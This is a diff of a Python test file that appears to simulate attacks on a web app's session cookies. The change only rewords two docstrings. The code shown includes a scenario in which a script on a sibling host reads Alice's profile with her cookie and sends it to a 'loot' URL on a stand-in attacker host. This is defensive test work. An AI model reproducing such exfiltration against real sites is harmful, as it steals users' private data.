@@ -81,7 +81,7 @@ def image(scene: Scene) -> Try:
 
 
 def reading(scene: Scene) -> Try:
-    """A script at a sibling host reads Alice's profile with her cookie, and sends it to the attacker."""
+    """A script at a sibling host reads Alice's profile with her cookie and sends the profile to the attacker."""
     alice = scene.person()
     page = logged_in(scene, alice, "session")
     to, loot = scene.url("/session/api/profile"), scene.url("/broken/loot", hosts.ATTACKER)
@@ -110,7 +110,7 @@ def planted_session(scene: Scene) -> Try:
 
 
 def visit(scene: Scene) -> Try:
-    """A link of another site leads Alice to the login page, in a second tab; then she logs out in the first."""
+    """A link of another site opens the login page in a second tab. Then Alice logs out in the first tab."""
     page = logged_in(scene, scene.person(), "session")
     session, before = cookie(page, settings.SESSION_COOKIE_NAME), cookie(page, settings.CSRF_COOKIE_NAME)
     page.goto(hosts.origin(hosts.VICTIM) + "/session/profile/")
